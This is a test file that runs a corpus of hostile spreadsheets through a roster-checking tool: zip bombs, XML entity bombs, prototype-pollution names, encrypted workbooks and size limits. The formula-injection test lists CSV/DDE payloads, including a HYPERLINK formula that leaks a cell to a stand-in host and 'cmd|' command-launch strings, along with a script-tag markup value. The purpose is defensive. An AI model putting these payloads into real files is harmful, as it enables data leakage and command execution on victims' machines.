@@ -1,0 +1,322 @@
+// Every file of the hostile corpus (scripts/make-hostile.mjs) through the built command line: a
+// clear answer within 10 s, never a stack trace; then the reader itself, in process, on what the
+// command line cannot show (prototype pollution, the limits at their edges, the zip inspector).
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import zlib from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import * as XLSX from 'xlsx';
+import { analyze, builtinProfile, type Settings } from '../../src/lib/core/index';
+import { ReadError, readWorkbook } from '../../src/lib/io/read';
+import { checkFile, correctedFile } from '../../src/lib/io/pipeline';
+import { MAX_CELL_CHARS, MAX_COLUMNS, MAX_ROWS, inflatedSize, inspectZip } from '../../src/lib/io/limits';
+import { HOSTILE, MARKUP_VALUES } from '../../scripts/make-hostile.mjs';
+import { HEADER, makeRows } from '../../scripts/synth.mjs';
+
+const root = fileURLToPath(new URL('../../', import.meta.url));
+const dir = join(root, 'test/fixtures/hostile');
+const hostile = (name: string) => new Uint8Array(readFileSync(join(dir, name)));
+const settings: Settings = { hostProvince: '北京市', practical: false, today: '2026-11-22' };
+const national = builtinProfile('national');
+const LIMIT_MS = 10_000;
+
+interface Expectation { name: string; what: string; code: number | number[]; kind?: string | null; stderr?: RegExp; rules?: string[] }
+const corpus = HOSTILE as Expectation[];
+
+interface Run { code: number | null; stdout: string; stderr: string; ms: number; timedOut: boolean }
+const runs = new Map<string, Run>();
+
+/** `roster-check --json FILE`, killed after LIMIT_MS. */
+function runCli(name: string): Promise<Run> {
+  return new Promise((resolve) => {
+    const t0 = performance.now();
+    const child = spawn(process.execPath, [cli, '--json', join(dir, name)], { timeout: LIMIT_MS, killSignal: 'SIGKILL' });
+    const out: Buffer[] = [];
+    const err: Buffer[] = [];
+    child.stdout.on('data', (b: Buffer) => out.push(b));
+    child.stderr.on('data', (b: Buffer) => err.push(b));
+    child.on('close', (code, signal) => {
+      const ms = performance.now() - t0;
+      resolve({ code, stdout: Buffer.concat(out).toString('utf8'), stderr: Buffer.concat(err).toString('utf8'), ms, timedOut: signal !== null || ms >= LIMIT_MS });
+    });
+  });
+}
+
+let cli = '';
+let tmp = '';
+beforeAll(async () => {
+  // Built by the project's own script, but into a folder of its own: test/io/cli.test.ts builds
+  // dist-cli/ at the same time in another worker, and a half-written bundle must never be run.
+  tmp = mkdtempSync(join(tmpdir(), 'rc-hostile-'));
+  symlinkSync(join(root, 'src'), join(tmp, 'src'));
+  symlinkSync(join(root, 'node_modules'), join(tmp, 'node_modules'));
+  execFileSync(process.execPath, [join(root, 'scripts/build-cli.mjs')], { cwd: tmp });
+  cli = join(tmp, 'dist-cli/roster-check.mjs');
+  // Two at a time: most of each run is node starting up, and the suite has a time budget. Each
+  // run still has its own 10 s limit.
+  const queue = corpus.map((h) => h.name);
+  const worker = async () => {
+    for (let name = queue.shift(); name !== undefined; name = queue.shift()) runs.set(name, await runCli(name));
+  };
+  await Promise.all([worker(), worker()]);
+}, 180_000);
+
+afterAll(() => {
+  if (tmp) rmSync(tmp, { recursive: true, force: true });
+});
+
+function run(name: string): Run {
+  const r = runs.get(name);
+  if (!r) throw new Error(`no run for ${name}`);
+  return r;
+}
+
+interface JsonIssue { rule: string; severity: string; row: number | null; column: string | null; value: string; message: string; fix: string | null }
+interface JsonResult { file: string; sheet: string; summary: { attendees: number; errors: number }; issues: JsonIssue[] }
+
+describe('the hostile corpus through roster-check', () => {
+  it('has at least 25 files, each made by the generator and described', () => {
+    const made = readdirSync(dir).sort();
+    expect(corpus.length).toBeGreaterThanOrEqual(25);
+    expect(made).toEqual(corpus.map((h) => h.name).sort());
+  });
+
+  it.each(corpus.map((h) => [h.name, h] as const))('%s: a clear answer within 10 s', (_name, h) => {
+    const r = run(h.name);
+    expect(r.timedOut, `${h.name} took more than ${LIMIT_MS} ms`).toBe(false);
+    expect(r.ms).toBeLessThan(LIMIT_MS);
+    // Never a stack trace or an internal error, whatever the outcome.
+    expect(r.stderr).not.toMatch(/\bat .*:\d+:\d+|内部错误|Error:/);
+    if (h.code === 2) {
+      expect(r.code).toBe(2);
+      const lines = r.stderr.trimEnd().split('\n');
+      expect(lines).toHaveLength(1);
+      expect(lines[0]).toMatch(/^roster-check: .*：.*[\u4e00-\u9fff]/);
+      if (h.stderr) expect(lines[0]).toMatch(h.stderr);
+      // Short enough for one line on a clerk's screen.
+      expect(lines[0]!.split('：').slice(1).join('：').length).toBeLessThan(120);
+      expect(JSON.parse(r.stdout)).toEqual({ file: join(dir, h.name), error: expect.stringMatching(/[\u4e00-\u9fff]/) });
+    } else {
+      expect([0, 1]).toContain(r.code);
+      expect(r.stderr).toBe('');
+      const out = JSON.parse(r.stdout) as JsonResult;
+      expect(out.summary.attendees).toBeGreaterThanOrEqual(0);
+      expect(Array.isArray(out.issues)).toBe(true);
+      for (const rule of h.rules ?? []) expect(out.issues.map((i) => i.rule)).toContain(rule);
+    }
+  });
+
+  it('says a password-protected workbook must have its password removed in Excel first', () => {
+    for (const name of ['encrypted.xlsx', 'encrypted-standard.xlsx', 'encrypted.xls']) {
+      const line = run(name).stderr;
+      expect(line).toContain('密码');
+      expect(line).toMatch(/在 Excel 中取消密码/);
+    }
+  });
+
+  it('refuses every zip bomb as too large, at once, without inflating it', () => {
+    for (const name of ['zip-bomb.xlsx', 'zip-bomb-lying.xlsx', 'zip-bomb-descriptor.xlsx']) {
+      const r = run(name);
+      expect(r.stderr).toMatch(/解压后过大/);
+      expect(r.ms).toBeLessThan(5_000);
+    }
+  });
+
+  it('reports every formula-looking cell by rule cell.formula, with the text as it is', () => {
+    const payloads = ['=HYPERLINK("http://example.invalid/?leak="&E2,"点我")', "+cmd|' /C calc'!A0", '@SUM(A1)', "-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', "=cmd|' /C notepad'!'A1'", '=1+1'];
+    for (const name of ['formula-cells.xlsx', 'formula-cells.csv']) {
+      const out = JSON.parse(run(name).stdout) as JsonResult;
+      const flagged = out.issues.filter((i) => i.rule === 'cell.formula').map((i) => i.value);
+      expect(flagged.sort()).toEqual([...payloads].sort());
+    }
+  });
+
+  it('reports markup in cells as plain text, exactly as it is in the file', () => {
+    const out = JSON.parse(run('markup-cells.xlsx').stdout) as JsonResult;
+    const values = new Set(out.issues.map((i) => i.value));
+    for (const v of MARKUP_VALUES as string[]) expect(values, v).toContain(v);
+    // And in the Chinese summary: the text itself, not escaped and not interpreted.
+    const text = spawnSync(process.execPath, [cli, join(dir, 'markup-cells.xlsx')], { encoding: 'utf8', timeout: LIMIT_MS }).stdout;
+    expect(text).toContain('“<script>alert(1)</script>”');
+    expect(text).toContain('“&lt;b&gt;粗体&lt;/b&gt;”');
+  });
+
+  it('reads what the odd-but-sound files hold', () => {
+    const json = (name: string) => JSON.parse(run(name).stdout) as JsonResult;
+    expect(json('sheets-200.xlsx')).toMatchObject({ sheet: '学员名单', summary: { attendees: 60, errors: 0 } });
+    expect(json('gbk-bom-mixed.csv')).toMatchObject({ summary: { attendees: 60, errors: 0 } });
+    expect(json('far-cell.xlsx')).toMatchObject({ summary: { attendees: 60, errors: 0 } });
+    expect(json('zip64.xlsx')).toMatchObject({ summary: { attendees: 60, errors: 0 } });
+    expect(json('deep-xml.xlsx')).toMatchObject({ summary: { attendees: 60, errors: 0 } });
+    expect(json('proto-names.xlsx')).toMatchObject({ sheet: '__proto__', summary: { attendees: 60 } });
+    expect(json('proto.csv')).toMatchObject({ summary: { attendees: 60 } });
+    // The entity of the "billion laughs" is left as text, never expanded.
+    expect(json('entity-bomb.xlsx').issues.map((i) => i.value)).toContain('&lol9;');
+    expect(json('xml-entity-bomb.xls')).toMatchObject({ summary: { attendees: 60 } });
+    expect(json('xml-entity-bomb.xls').issues.map((i) => i.value)).toContain('&lol9;');
+    // The stress cells are reported, not hung on.
+    expect(json('regex-stress.xlsx').summary.attendees).toBe(80);
+    expect(run('gbk-bom-mixed-open-quote.csv').stderr).toContain('第 31 行');
+  });
+});
+
+/** Each hostile file read and checked in this process, once: the error it gave, or null. */
+const inProcess = new Map<string, unknown>();
+function readInProcess(name: string): unknown {
+  if (!inProcess.has(name)) {
+    let err: unknown = null;
+    try {
+      checkFile(hostile(name), national, settings);
+    } catch (e) {
+      err = e;
+    }
+    inProcess.set(name, err);
+  }
+  return inProcess.get(name);
+}
+
+describe('the reader in process', () => {
+  it('leaves Object.prototype and friends untouched after reading every hostile file', () => {
+    const protoKeys = Reflect.ownKeys(Object.prototype);
+    const arrayKeys = Reflect.ownKeys(Array.prototype);
+    const toString = Object.prototype.toString;
+    for (const h of corpus) {
+      const err = readInProcess(h.name);
+      if (err !== null && !(err instanceof ReadError) && (err as Error).name !== 'LocateError') throw err;
+    }
+    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
+    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
+    expect(Reflect.ownKeys(Object.prototype)).toEqual(protoKeys);
+    expect(Reflect.ownKeys(Array.prototype)).toEqual(arrayKeys);
+    expect(Object.getPrototypeOf(Object.prototype)).toBeNull();
+    expect(Object.prototype.toString).toBe(toString);
+  });
+
+  it('checks a roster with a cell at XFD1048576, and refuses only to write it back, with a message', () => {
+    const bytes = hostile('far-cell.xlsx');
+    const checked = checkFile(bytes, national, settings);
+    expect(checked.roster.summary().attendees).toBe(60);
+    let err: unknown;
+    try {
+      correctedFile(bytes, checked);
+    } catch (e) {
+      err = e;
+    }
+    expect(err).toBeInstanceOf(ReadError);
+    expect((err as ReadError).message).toMatch(/^工作表“学员名单”的使用范围过大（A1:XFD1048576）/);
+  });
+
+  it('reads sheets named __proto__, constructor and prototype as ordinary sheets', () => {
+    const wb = readWorkbook(hostile('proto-names.xlsx'));
+    expect(wb.sheets.map((s) => s.name)).toEqual(['__proto__', 'constructor', 'prototype']);
+    expect(wb.sheets[1]?.rows).toEqual([['__proto__', 'polluted'], ['constructor', 'prototype']]);
+    expect(wb.sheets[0]?.rows[0]?.slice(-3)).toEqual(['__proto__', 'constructor', 'prototype']);
+    expect(Object.getPrototypeOf(wb.sheets[0])).toBe(Object.prototype);
+    const { located } = analyze(wb, national, settings);
+    expect(located.sheetName).toBe('__proto__');
+  });
+
+  it('decodes GBK behind a stray UTF-8 BOM, and rows ended by CR LF, LF and CR alike', () => {
+    const wb = readWorkbook(hostile('gbk-bom-mixed.csv'));
+    expect(wb.csv).toMatchObject({ encoding: 'gb18030', bom: true, delimiter: ',' });
+    const rows = wb.sheets[0]!.rows;
+    expect(rows).toHaveLength(61);
+    expect(rows[0]).toEqual(HEADER);
+    for (const row of rows) expect(row).toHaveLength(HEADER.length);
+  });
+
+  it('holds the limits exactly at their edges', () => {
+    const csv = (text: string) => readWorkbook(new TextEncoder().encode(text));
+    const refused = (text: string) => {
+      try {
+        csv(text);
+      } catch (e) {
+        return e instanceof ReadError ? e.kind : 'other';
+      }
+      return null;
+    };
+    const header = `${HEADER.join(',')}\n`;
+    expect(refused(`${header}${'x'.repeat(MAX_CELL_CHARS)}\n`)).toBeNull();
+    expect(refused(`${header}${'x'.repeat(MAX_CELL_CHARS + 1)}\n`)).toBe('too-large');
+    expect(refused(`${header}"${'x'.repeat(MAX_CELL_CHARS - 1)}""",a\n`)).toBeNull();
+    expect(refused(`${header}${','.repeat(MAX_COLUMNS - 1)}\n`)).toBeNull();
+    expect(refused(`${header}${','.repeat(MAX_COLUMNS)}\n`)).toBe('too-large');
+    expect(refused(`${header}${'a\n'.repeat(MAX_ROWS - 1)}`)).toBeNull();
+    expect(refused(`${header}${'a\n'.repeat(MAX_ROWS)}`)).toBe('too-large');
+  });
+
+  it('counts what a deflate stream inflates to exactly as zlib does, and stops at the limit', () => {
+    let seed = 7;
+    const rand = () => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32;
+    for (let t = 0; t < 40; t++) {
+      const n = Math.floor(rand() * 50_000);
+      const data = new Uint8Array(n);
+      for (let i = 0; i < n; i++) data[i] = rand() < 0.6 && i > 0 ? data[i - 1 - Math.floor(rand() * Math.min(i, 40))]! : Math.floor(rand() * 256);
+      for (const level of [0, 1, 9]) {
+        const d = new Uint8Array(zlib.deflateRawSync(data, { level }));
+        expect(inflatedSize(d, 0, Number.MAX_SAFE_INTEGER)).toEqual({ size: n, end: d.length });
+        if (n > 0) expect(inflatedSize(d, 0, n - 1)).toBe('over');
+      }
+    }
+    expect(inflatedSize(Uint8Array.from([0xff, 0xff, 0xff]), 0, 100)).toBe('bad');
+  });
+
+  it('refuses a bomb from its directory before decoding, and a lying one within a budget of work', () => {
+    for (const name of ['zip-bomb.xlsx', 'zip-bomb-lying.xlsx', 'zip-bomb-descriptor.xlsx']) {
+      const t0 = performance.now();
+      expect(inspectZip(hostile(name))).toEqual({ problem: 'too-large' });
+      expect(performance.now() - t0).toBeLessThan(3_000);
+    }
+    expect(inspectZip(hostile('many-cells.xlsx'))).toEqual({ problem: 'too-many-cells' });
+    expect(inspectZip(hostile('zip-many-entries.xlsx'))).toMatchObject({ problem: 'too-many-entries' });
+    expect(inspectZip(hostile('truncated-tail.xlsx'))).toEqual({ problem: 'corrupt' });
+    const ok = inspectZip(hostile('sheets-200.xlsx'));
+    expect('entries' in ok && ok.entries.some((e) => e.name === 'xl/worksheets/sheet137.xml' && e.cells > 60 * 13)).toBe(true);
+  });
+
+  // SheetJS 0.20.3 decodes the entities of inline formula-string cells (t="str", what SheetJS
+  // itself writes by default) twice: "&amp;lt;b&amp;gt;" in the file comes back as "<b>", not
+  // "&lt;b&gt;". Excel writes text as shared strings, so only files from SheetJS-based exporters are
+  // affected; our own corrected files use shared strings. Remove `.fails` once SheetJS is fixed.
+  it.fails('KNOWN (SheetJS): reads entity text in t="str" cells exactly', () => {
+    const wb = readWorkbook(hostile('str-entities.xlsx'));
+    expect(wb.sheets[0]?.rows.flat()).toContain('&lt;b&gt;粗体&lt;/b&gt;');
+  });
+
+  // core/locate.ts matches header cells with NOTE_IN_BRACKETS, /[(（[【<《][^)）\]】>》]*[)）\]】>》]/g,
+  // which backtracks quadratically over a run of opening brackets: one 20,000-character cell in the
+  // first 50 rows costs seconds, and the reader cannot prevent it (Excel allows 32,767 characters).
+  // A linear pattern, or skipping header matching for cells longer than a header can be, fixes it.
+  // Remove `.fails` once core is fixed.
+  it.fails('KNOWN (core): header matching time grows linearly with a long run of brackets', () => {
+    const time = (n: number) => {
+      const rows = [[...HEADER, '('.repeat(n)], ...makeRows(5, 1)];
+      const t0 = performance.now();
+      analyze({ format: 'csv', sheets: [{ name: 'S', rows, numeric: new Set() }] }, national, settings);
+      return performance.now() - t0;
+    };
+    time(500);
+    const small = Math.max(time(2000), 1);
+    const large = time(8000);
+    // Linear: about 4 times as long for 4 times the text; quadratic: about 16 times.
+    expect(large / small).toBeLessThan(8);
+  });
+});
+
+describe('what the reader refuses, by kind', () => {
+  it.each(corpus.filter((h) => h.code === 2 && h.kind).map((h) => [h.name, h.kind] as const))('%s → %s', (name, kind) => {
+    const err = readInProcess(name);
+    expect(err).toBeInstanceOf(ReadError);
+    expect((err as ReadError).kind).toBe(kind);
+    expect((err as ReadError).message).not.toContain('\n');
+  });
+
+  it('reads a workbook SheetJS can read as it did before: the corpus controls', () => {
+    const wb = XLSX.read(hostile('sheets-200.xlsx'), { type: 'array' });
+    expect(wb.SheetNames).toHaveLength(200);
+    expect(readWorkbook(hostile('sheets-200.xlsx')).sheets).toHaveLength(200);
+  });
+});
